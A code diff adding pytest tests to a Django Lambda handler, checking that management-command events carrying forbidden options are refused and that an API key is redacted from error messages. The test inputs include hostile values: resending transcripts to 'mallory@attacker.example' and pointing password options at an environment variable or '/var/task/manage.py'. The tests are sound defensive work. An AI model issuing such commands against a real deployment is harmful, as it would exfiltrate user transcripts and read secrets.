@@ -13,7 +13,7 @@ from django.core.handlers.wsgi import WSGIHandler
 from django.core.management import call_command, get_commands
 from django.utils import timezone
 
-from chatkit_api.models import Transcript
+from chatkit_api.models import Transcript, TranscriptStatus
 from chatkit_site.lambda_handler import (
     MANAGE_COMMANDS,
     MalformedManageEvent,
@@ -455,6 +455,39 @@ def test_manage_event_naming_a_command_not_on_the_list_is_refused(manage):
     assert str(refused.value).startswith("manage ")
     assert " is not allowed: a manage event may run admin_sign_in_unlock, check, " in str(refused.value)
     assert Transcript.objects.filter(thread_id="cthr_kept").exists()
+
+
+@pytest.mark.parametrize(
+    ("manage", "option"),
+    [
+        (["ensure_superuser", "mallory", "--password-env", "AWS_LAMBDA_FUNCTION_NAME"], "--password-env"),
+        (["ensure_superuser", "mallory", "--password-file=/var/task/manage.py"], "--password-file"),
+        (["ensure_superuser", "mallory", "--password-f", "/var/task/manage.py"], "--password-file"),
+        ("resend_transcript --since 2000-01-01 --to mallory@attacker.example", "--to"),
+        ("resend_transcript 1 --t=mallory@attacker.example", "--to"),
+    ],
+)
+def test_manage_event_giving_an_option_the_invoker_may_not_use_is_refused(
+    manage, option, monkeypatch, django_user_model
+):
+    monkeypatch.setenv("AWS_LAMBDA_FUNCTION_NAME", "chatkit")
+    Transcript.objects.create(thread_id="cthr_kept", requested_by="server", status=TranscriptStatus.FAILED)
+
+    with pytest.raises(ManageCommandNotAllowed, match=f" {option} is not allowed in a manage event"):
+        handler({"manage": manage}, None)
+
+    assert not django_user_model.objects.exists()
+    assert Transcript.objects.get().attempts == 0
+
+
+def test_a_failed_manage_commands_message_carries_no_secret(settings):
+    settings.OPENAI_API_KEY = "sk-" + "s" * 40
+
+    with pytest.raises(ManagementCommandFailed) as failed:
+        handler({"manage": ["resend_transcript", "--since", settings.OPENAI_API_KEY]}, None)
+
+    assert "sk-ssss" not in str(failed.value)
+    assert "[redacted]" in str(failed.value)
 
 
 def test_every_command_on_the_list_exists():
